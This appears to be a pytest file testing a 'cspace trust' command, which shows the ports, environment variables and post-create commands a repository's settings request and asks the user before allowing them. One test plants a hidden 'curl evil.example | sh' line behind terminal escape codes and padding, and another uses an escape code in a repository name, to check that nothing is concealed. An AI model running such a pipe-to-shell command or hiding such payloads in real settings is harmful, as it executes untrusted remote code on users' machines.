"""`cspace trust` as a person and a script use it."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from cspace import proc
from tests.conftest import CHECKOUT

TRUST = (sys.executable, "-m", "cspace.cli.app", "trust")
ASKING = {"ports": [3000], "env": {"A": "\u00e4\u202e"}, "post_create": "make"}


def trust(repo: Path, *words: str, ok: int = 0) -> proc.Result:
    env = os.environ | {"PYTHONPATH": str(CHECKOUT)}
    return proc.run(*TRUST, *words, cwd=repo, env=env, ok=(ok,))


def answer_of(repo: Path, *words: str, ok: int = 0) -> Any:
    return json.loads(trust(repo, "--json", *words, ok=ok).text)


def on_a_terminal(repo: Path, answer: bytes) -> tuple[int, str]:
    """Run it as a person sees it, who types an answer."""
    terminal, other = pty.openpty()
    env = os.environ | {"PYTHONPATH": str(CHECKOUT)}
    process = subprocess.Popen(TRUST, cwd=repo, env=env, stdin=other, stdout=other, stderr=other)
    os.close(other)
    os.write(terminal, answer)
    said = b""
    try:
        while piece := os.read(terminal, 65536):
            said += piece
    except OSError:  # Linux says so when the other end is closed
        pass
    os.close(terminal)
    return process.wait(), said.decode()


@pytest.fixture
def asking(repo: Path) -> Path:
    """Return a repository whose settings ask for something."""
    (repo / ".cspace.json").write_text(json.dumps(ASKING), encoding="utf-8")
    return repo


@pytest.fixture
def store(home: Path) -> Path:
    return home / ".cspace/trust.json"


def test_without_a_terminal_it_shows_what_it_would_allow_and_changes_nothing(
    asking: Path, store: Path
) -> None:
    done = trust(asking, ok=2)
    assert done.text.splitlines() == [
        f"{asking / '.cspace.json'} asks for",
        "  ports: publishes these ports of instances on this machine, at 127.0.0.1",
        "    [3000]",
        "  env: sets variables in instances: they can run code, and send your logins elsewhere",
        r'    A = "\u00e4\u202e"',
        "  post_create: runs this command in every new instance, where your logins can be read",
        '    "make"',
    ]
    assert b"error: nothing was allowed" in done.stderr
    assert b"cspace trust --yes" in done.stderr
    assert not store.parent.exists()


def test_yes_allows_it_and_a_second_run_says_that_nothing_is_left(
    asking: Path, store: Path
) -> None:
    assert trust(asking, "--yes").text.splitlines()[-1] == "trusted"
    before = store.read_bytes()
    again = trust(asking).text.splitlines()
    assert again[0] == f"{asking / '.cspace.json'} is trusted with"
    assert again[-1] == "nothing to do: nothing waits for trust"
    assert store.read_bytes() == before


def test_settings_that_ask_for_nothing_need_nothing(repo: Path, store: Path) -> None:
    (repo / ".cspace.json").write_text('{"ready_timeout": 9}', encoding="utf-8")
    for words in ((), ("--yes",)):
        assert trust(repo, *words).text == "nothing to do: nothing waits for trust"
    assert not store.parent.exists()


@pytest.mark.parametrize(("answer", "code"), [(b"y\n", 0), (b"n\n", 2), (b"\n", 2)])
def test_a_person_is_asked_and_only_a_yes_allows(
    asking: Path, store: Path, answer: bytes, code: int
) -> None:
    ended, said = on_a_terminal(asking, answer)
    assert ended == code
    assert "Allow all of this? [y/N]" in said
    assert store.exists() is (code == 0)


def test_json_keeps_its_contract(asking: Path) -> None:
    document = answer_of(asking, ok=2)
    assert set(document) == {"schema_version", "requests", "changed"}
    (request,) = document["requests"]
    assert set(request) == {"path", "asks", "trusted"}
    assert all(set(ask) == {"key", "value", "allows"} for ask in request["asks"])
    assert {ask["key"]: ask["value"] for ask in request["asks"]} == ASKING
    assert (request["trusted"], document["changed"]) == (False, False)
    allowed = answer_of(asking, "--yes")
    assert (allowed["requests"][0]["trusted"], allowed["changed"]) == (True, True)
    assert answer_of(asking)["changed"] is False


def test_revoking_takes_it_back_once(asking: Path) -> None:
    trust(asking, "--yes")
    assert "not trusted any more" in trust(asking, "--revoke").text
    assert trust(asking, "--revoke").text.startswith("nothing to do")
    assert answer_of(asking, "--revoke") == {"schema_version": 1, "changed": False}
    trust(asking, ok=2)


def test_a_hostile_value_hides_nothing_and_moves_no_cursor(repo: Path) -> None:
    hidden = f"make\x1b[2K\x1b[1A\r\u202e\u3164\n{' ' * 500}; curl evil.example | sh"
    text = json.dumps(
        {"post_create": hidden, "env": {"A": f"\x9b\x7f{hidden}"}}, ensure_ascii=False
    )
    (repo / ".cspace.json").write_text(text, encoding="utf-8")
    assert "\x1b" not in text  # JSON escapes what would move the cursor …
    assert "\u3164" in text  # … and not what is merely invisible
    shown = trust(repo, ok=2).text
    assert shown.isascii()
    assert shown.replace("\n", "").isprintable()
    assert f"    {json.dumps(hidden)}" in shown.splitlines()
    assert json.dumps(f"\x9b\x7f{hidden}") in shown


def test_a_repository_with_a_hostile_name_moves_no_cursor(repo: Path) -> None:
    hostile = repo.with_name("x\x1b[2Jy")
    (repo / ".cspace.json").write_text('{"ports": [1]}', encoding="utf-8")
    repo.rename(hostile)
    done = trust(hostile, ok=2)
    assert r"x\x1b[2Jy" in done.text
    assert b"\x1b" not in done.stdout + done.stderr


def test_a_file_that_is_wrong_is_named_and_nothing_is_allowed(repo: Path, store: Path) -> None:
    (repo / ".cspace.json").write_text('{"mounts": ["/"], "ports": [1]}', encoding="utf-8")
    done = trust(repo, "--yes", ok=2)
    assert b'.cspace.json: unknown key "mounts"' in done.stderr
    assert not store.parent.exists()


def test_outside_of_a_project_there_is_nothing_to_trust(tmp_path: Path) -> None:
    assert b"is not inside a git repository" in trust(tmp_path, ok=2).stderr
